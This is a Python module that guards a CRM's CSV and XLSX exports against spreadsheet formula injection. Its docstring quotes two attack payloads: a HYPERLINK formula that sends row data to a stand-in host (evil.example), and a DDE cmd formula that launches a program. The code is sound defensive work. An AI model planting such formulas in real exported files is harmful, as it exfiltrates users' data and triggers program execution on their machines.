"""Cells written to files people open in spreadsheet programs (CSV and XLSX exports, report
downloads).

A spreadsheet program runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "open")`` leaks the row
when clicked, ``=cmd|' /C calc'!A0`` asks to start a program. Names and notes reach exports from the
public lead form, so every exported text cell goes through :func:`safe_cell`, which follows the
OWASP advice on CSV injection: such a cell gets a leading single quote, which makes the program show
it as text.

A cell made only of digits, signs, spaces and the separators ``.``, ``,`` and ``;`` is left as it
is: it can neither call a function nor refer to another cell, and rewriting it would turn negative
amounts into text and break the phone lists (``+989121234567; +989351112233``) that ``crm customers
import`` reads back.

Machine exports may ask for the values unchanged (``--raw``); files written so must not be opened in
a spreadsheet program."""

from __future__ import annotations

import re
from typing import Any

#: what makes a spreadsheet program read a cell as a formula (OWASP's list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBERS = re.compile(r"[0-9+\-.,; ]*[0-9][0-9+\-.,; ]*", re.ASCII)


def safe_cell(value: Any, *, raw: bool = False) -> Any:
    """``value`` as it may be written to a spreadsheet cell: text that a spreadsheet program would
    run as a formula is prefixed with ``'``; anything else (numbers, ``None``, other text) is
    returned unchanged."""
    if raw or not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBERS.fullmatch(value):
        return value
    return "'" + value


def safe_row(row, *, raw: bool = False) -> list[Any]:
    return [safe_cell(v, raw=raw) for v in row]


def xlsx_row(ws, row, *, raw: bool = False) -> list[Any]:
    """A row for openpyxl's write-only sheet ``ws``: text cells are always stored as text (never as
    a formula, even with ``raw``), other values as they are."""
    from openpyxl.cell import WriteOnlyCell

    cells: list[Any] = []
    for value in safe_row(row, raw=raw):
        if isinstance(value, str):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula otherwise
            cells.append(cell)
        else:
            cells.append(value)
    return cells
